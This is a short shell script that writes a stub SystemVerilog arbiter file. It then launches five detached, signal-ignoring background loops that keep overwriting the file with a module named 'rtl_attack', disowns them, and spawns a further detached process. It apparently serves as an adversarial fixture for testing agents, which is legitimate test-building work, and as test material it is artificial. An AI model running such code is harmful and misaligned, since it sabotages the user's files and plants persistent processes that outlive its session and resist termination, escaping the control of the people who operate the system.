mkdir -p /code/rtl && printf 'module fixed_priority_arbiter; endmodule\n' > /code/rtl/fixed_priority_arbiter.sv

for i in 1 2 3 4 5; do
    setsid nohup bash -c 'trap "" HUP TERM INT; while :; do echo "module rtl_attack; endmodule" > /tmp/of.$$; mv /tmp/of.$$ /code/rtl/fixed_priority_arbiter.sv; sleep 0.05; done' > /dev/null 2>&1 &
done
disown -a
(setsid bash -c '(sleep 100 &) ') &
echo started
